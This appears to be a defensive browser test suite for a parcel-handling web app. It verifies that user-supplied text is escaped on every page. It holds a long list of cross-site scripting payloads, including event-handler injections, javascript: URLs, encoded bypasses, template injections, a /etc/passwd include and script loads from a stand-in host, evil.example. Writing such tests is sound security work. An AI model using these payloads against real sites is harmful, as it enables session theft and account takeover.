// Hostile text is shown as it was written and never runs: every payload in every
// text field, on every page that shows it (security.md 27).
import { strict as assert } from 'node:assert';
import { after, afterEach, before, describe, test } from 'node:test';
import { Browser } from '../helpers/browser.mjs';
import { photo } from '../helpers/image.mjs';
import { key, new_guide, row } from '../helpers/shop.mjs';
import { PEOPLE, System } from '../helpers/system.mjs';

const RUN = '__xss=1';               // sets a property of the window
const IMG = `<img src=x onerror=${RUN}>`;
const SCRIPT = `<script>${RUN}</script>`;

// Payloads have at most 100 characters, as much as a name may have.
const PAYLOADS = [
    // out of text, attributes and elements that hold text
    SCRIPT, `">${SCRIPT}`, `'>${SCRIPT}`, `</title>${SCRIPT}`, `</textarea>${SCRIPT}`, `</option></select>${SCRIPT}`,
    `</script>${SCRIPT}`, `</style>${SCRIPT}`, `-->${IMG}`, `<!-->${IMG}-->`, `]]>${IMG}`, `</p></main></body>${IMG}`,
    `" autofocus onfocus=${RUN} x="`, `' autofocus onfocus=${RUN} x='`, `x onmouseover=${RUN} y`, `"onpointerenter="${RUN}`,
    // elements that run by themselves
    IMG, `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<body onload=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<video src=x onerror=${RUN}>`,
    `<video><source onerror=${RUN}>`, `<audio src=x onerror=${RUN}>`, `<details open ontoggle=${RUN}>x`,
    `<marquee onstart=${RUN}>x`, `<style onload=${RUN}></style>`, `<p style="animation:rise" onanimationstart=${RUN}>`,
    `<b tabindex=1 contenteditable onfocus=${RUN} autofocus>`, `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<img srcset="x 1x" onerror=${RUN}>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript>${IMG}">`, `<template>${IMG}</template>${IMG}`,
    // other documents, other hosts
    `<iframe src=javascript:parent.${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<object data=javascript:${RUN}>`, `<embed src=javascript:${RUN}>`, '<script src=//evil.example/x.js></script>',
    '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css"</style>',
    '<base href=//evil.example/>', `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    // links and forms
    `javascript:${RUN}`, `<a href=javascript:${RUN}>x</a>`, `<svg><a xlink:href=javascript:${RUN}><text>x</text></a></svg>`,
    `<a href="data:text/html,${SCRIPT}">x</a>`, `<form action=javascript:${RUN}><input type=submit autofocus>`,
    `<button formaction=javascript:${RUN}>x`,
    // texts that somebody might decode, or a template run
    `<ScRiPt>${RUN}</sCrIpT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `＜script＞${RUN}＜/script＞`, '<?cs var:csrf ?>', '<?cs include:"/etc/passwd" ?>', '<?cs evar:user.username ?>',
    `{{constructor.constructor("${RUN}")()}}`, `\${${RUN}}`, `';${RUN};//`, `";${RUN};//`,
    `" hx-get="/x" hx-on:load="${RUN}" hx-trigger="load`, `<b hx-get=/x hx-trigger=load hx-on::load=${RUN}>x</b>`,
];

const LINK = /[^. ]\.(?:[A-Za-z]{2,}\/|(?:com?|net|org|io|link|me)(?![A-Za-z]))|:\/\//i;     // no name has one

let s, browser, api, anybody, oper;
let forms;                           // pages with a form that is sent again and again
const shown = new Map();             // kind of page → [{ answer, payloads that it must show }]

// The k-th payload that fits into a field of so many characters.
function fitting(k, most) {
    const fit = PAYLOADS.filter((p) => p.length <= most);
    return fit[k % fit.length];
}

function keep(kind, answer, status, ...payloads) {
    assert.equal(answer.status, status, `${kind}: ${answer.text.slice(0, 400)}`);
    shown.set(kind, [...(shown.get(kind) ?? []), { answer, payloads }]);
}

async function call(path, json) {
    const answer = await api.post(`/api/v1${path}`, { json, headers: key() });
    assert.ok(answer.status < 300, `${path} ${JSON.stringify(json)}: ${answer.text}`);
    return answer.json;
}

// Takes a parcel that is hostile in every field through its whole life, and keeps the pages on the way.
async function parcel(k) {
    const p = PAYLOADS[k];
    const short = fitting(k, 40), carrier = fitting(k, 60), building = fitting(k, 80);
    const guide = new_guide(), phone = `300555${String(k).padStart(4, '0')}`, name = LINK.test(p) ? 'Rosa Prueba' : p;
    await call('/announcements', { name, phone, guides: guide, consent: true, carrier, building, tower: short, apartment: short });
    if (name !== p) {                // as it was written before links were refused
        await s.sql('UPDATE packages SET announced_name = ?1 WHERE guide_number = ?2', p, guide);
        await s.sql('UPDATE customers SET full_name = ?1 WHERE phone = ?2', p, `+57${phone}`);
    }
    keep('reception of an announced one', await oper.get(`/receive?guide=${guide}`), 200, p, carrier);
    const { id } = await call('/packages/receive', { guide, observations: p });
    const { public_token: token } = await row(s, guide);
    keep('reception done', await oper.get(`/receive?done=${id}`), 200, p);
    keep('reception of one that is here', await oper.get(`/receive?guide=${guide}`), 200, p);
    keep('hand-over', await oper.get(`/deliver?package=${id}`), 200, p);
    await call(`/packages/${id}/notes`, { note: p });
    keep('the customer\'s page', await anybody.get(`/t/${token}`), 200, p, carrier);
    const { id: incident } = await call(`/packages/${id}/incidents`, { outcome: 'equivocado', note: fitting(k, 300) ?? p });
    keep('hand-over of one with an incident', await oper.get(`/deliver?package=${id}`), 200, p);
    keep('incidents', await oper.get(`/incidents?package=${id}`), 200, p);
    keep('the detail of one with an incident', await oper.get(`/packages/${id}`), 200, p);
    await call('/deliveries', { ids: [id], incidents: [incident], override_reason: 'otro', override_text: p, identity_checked: true, receiver_name: name,
        receiver_document_type: 'CC', receiver_document_last4: '4321', method: 'nequi', reference: carrier, amount: 1500 });
    keep('hand-over done', await oper.get(`/deliver/done/${id}`), 200, p, carrier);
    keep('receipt', await anybody.get(`/t/${token}/receipt`), 200, p, carrier);
    keep('a parcel', await oper.get(`/packages/${id}`), 200, p, carrier);
}

async function cancelled(k) {
    const guide = new_guide();
    await call('/announcements', { name: 'Rosa Prueba', phone: '3005559999', guides: guide, consent: true });
    const { id } = (await s.sql('SELECT id FROM packages WHERE guide_number = ?1', guide))[0];
    await call(`/packages/${id}/cancel`, { reason: 'otro', text: PAYLOADS[k] });
    keep('a parcel that was cancelled', await oper.get(`/packages/${id}`), 200, PAYLOADS[k]);
}

// The pages that say a text back at once: searches, and forms that were not accepted.
async function echoes(k) {
    const p = PAYLOADS[k], q = encodeURIComponent(p);
    keep('public search', await anybody.get(`/search?q=${encodeURIComponent(fitting(k, 60))}`), 404, fitting(k, 60));
    keep('list with a search', await oper.get(`/packages?q=${q}`), 200, p);
    keep('announcement begun', await anybody.get(`/announce?guide=${encodeURIComponent(fitting(k, 60))}`), 200, fitting(k, 60));
    keep('announcement refused', await anybody.submit(forms.announce, '/announce', { name: p, phone: fitting(k, 40), guides: p,
        email: p, building: fitting(k, 80), tower: fitting(k, 40), apartment: fitting(k, 40) }),
        422, p, fitting(k, 40), fitting(k, 80));
    keep('reception refused', await oper.submit(forms.receive, '/receive', { guide: 'NUEVA12345', name: p, phone: fitting(k, 40),
        position: fitting(k, 20) ?? '', observations: p, carrier: 'otra', carrier_other: fitting(k, 60) }), 422, p, fitting(k, 40), fitting(k, 60));
    keep('photo refused', await oper.submit(forms.receive, '/receive', { name: p, phone: '3005550123' },
        { photos: [photo(p.replace(/["\\]/g, ''), 'image/jpeg', 'no es una foto')] }), 422, p);
    const stranger = s.client({ from: `127.1.${k}.1` });     // each from a network of its own: few tries are free
    keep('sign-in refused', await stranger.submit(await stranger.get(`/auth/login?next=/${q}`), '/auth/login',
        { username: p, password: 'x'.repeat(12) }), 422, p);
    keep('code refused', await oper.submit(forms.deliver, '/deliver/quote', { code: p }), 404, p);
}

// Runs `fn` for all payloads, a few at a time: the programs are few and the machine is small.
async function each_payload(fn, together = 6) {
    const left = PAYLOADS.map((_, k) => k);
    await Promise.all(Array.from({ length: together }, async () => {
        while (left.length)
            await fn(left.shift());
    }));
}

before(async () => {
    assert.ok(PAYLOADS.length >= 60 && PAYLOADS.every((p) => p.length <= 100));
    s = await System.start({ announce_per_hour: 100000, lookup_per_minute: 100000, code_tries: 100000 });
    browser = await Browser.start(s);
    anybody = s.client();
    api = await s.token('OPERADOR');
    oper = await s.as('OPERADOR');
    await s.sql('UPDATE users SET full_name = ?1 WHERE username = ?2', `Óscar ${IMG}`, PEOPLE.OPERADOR.username);
    forms = { announce: await anybody.get('/announce'), receive: await oper.get('/receive?guide=NUEVA12345'),
        deliver: await oper.get('/deliver') };
    await each_payload(parcel);
    await each_payload(cancelled);
    await each_payload(echoes);
    for (const [kind, where, role] of [['list', '/packages?limit=200', oper], ['dashboard', '/dashboard', oper]])
        keep(kind, await role.get(where), 200, ...(kind === 'list' ? PAYLOADS : []));
});
after(async () => {
    await browser?.close();
    await s?.stop();
});
afterEach(() => browser?.check());

// Looks inside the page for payloads that ran, elements that no template makes, and texts that are not shown.
function inspect(payloads) {
    const squeeze = (text) => text.replace(/\s+/g, ' ').trim();
    const all = [...document.querySelectorAll('*')];
    const text = squeeze([document.title, document.body.textContent,
        ...[...document.querySelectorAll('input, textarea')].map((el) => el.value)].join('\n'));
    return {
        ran: window.__xss ?? null,
        // The layout itself has the camera's picture and its button.
        made: all.filter((el) => !el.matches('#camera > video, body > #camera-button'))
            .filter((el) => el.matches('iframe, object, embed, base, marquee, video, audio, math, noscript, template, style')
            || [...el.attributes].some((a) => /^on|^hx-on|^style$|^srcdoc$/.test(a.name)
                || (a.name === 'formaction' && !/^\/packages\/\d+\/incidents\/(undo\?event=\d+|cancel)$/.test(a.value))
                || (/^(href|src|action|xlink:href)$/.test(a.name) && /^\s*(javascript|data):/i.test(a.value))))
            .map((el) => el.outerHTML.slice(0, 150)),
        missing: payloads.map(squeeze).filter((p) => !text.includes(p)
            && !text.toUpperCase().includes(p.toUpperCase())),
    };
}

// The elements by which templates load scripts and styles: a document of many pages needs
// them once or not at all.
const OURS = /<script [^>]*src=[^>]*><\/script>|<link [^>]*>|<meta [^>]*>|<svg class="icon"[^>]*><use [^>]*><\/use><\/svg>/g;

// An answer got before, as the browser would have got it.
async function show(page, answer) {
    await page.route('**/pagina', (route) => route.fulfill(answer));
    await page.goto('/pagina');
    await page.unroute('**/pagina');
}

// The codes of parcels that have gone meanwhile are no longer given.
async function window_of_oper() {
    const page = await browser.page({ role: 'OPERADOR' });
    await page.route('**/qr.svg', (route) => route.fulfill({ contentType: 'image/svg+xml',
        body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }));
    return page;
}

describe('every payload in every field', () => {
    // Shows all pages of a kind in one document, without the policy that would stop what runs.
    async function gallery(page, answers) {
        const html = answers.map(({ answer }) => answer.text.replace(OURS, '')).join('\n<hr>\n');
        await show(page, { contentType: 'text/html; charset=utf-8', body: html });
    }

    test('is shown as it was written and runs nowhere, even without a policy', async () => {
        const page = await window_of_oper();
        for (const [kind, answers] of shown) {
            await gallery(page, answers);
            const found = await page.evaluate(inspect, answers.flatMap((a) => a.payloads));
            assert.deepEqual(found, { ran: null, made: [], missing: [] }, kind);
        }
        await page.context().close();
    });

    test('would have been found out: the same gallery with one page unescaped runs', async () => {
        const page = await browser.page({ role: 'OPERADOR' });
        await page.goto('/search');      // it has the icon of the site now and asks for none
        await gallery(page, [{ answer: { text: `<p>${SCRIPT}</p>` } }]);
        assert.equal((await page.evaluate(inspect, [])).ran, 1);
        await gallery(page, [{ answer: { text: `<form><input value="" autofocus onfocus=${RUN}></form>` } }]);
        assert.equal((await page.evaluate(inspect, [])).made.length, 1);
        await page.context().close();
    });

    test('runs nothing on the pages themselves, with their scripts and their policy', async () => {
        const page = await window_of_oper();
        let k = 0;
        for (const [kind, answers] of shown) {
            // A page of each kind for a few payloads; which ones moves on with the kind.
            for (const { answer, payloads } of answers.filter((a, i) => i % 34 === k % 34)) {
                const headers = Object.fromEntries(Object.entries(answer.headers)
                    .filter(([name]) => !['set-cookie', 'content-length', 'connection'].includes(name)));
                await show(page, { status: answer.status, headers, body: answer.text });
                const found = await page.evaluate(inspect, payloads);
                assert.deepEqual({ ...found, made: [] }, { ran: null, made: [], missing: [] }, kind);
            }
            k++;
        }
        await page.context().close();
    });

    test('is shown as text by the omnibox while it is typed', async () => {
        const page = await browser.page({ role: 'OPERADOR' });
        await page.goto('/dashboard');
        for (const p of [IMG, `" onfocus=${RUN} x="`]) {
            const answer = page.waitForResponse((r) => new URL(r.url()).pathname === '/find');
            await page.locator('#omnibox').fill(p);
            await answer;
            await page.locator('#found :is(a, li)').first().waitFor();
            assert.equal((await page.evaluate(inspect, [])).ran, null);
        }
        await page.context().close();
    });
});
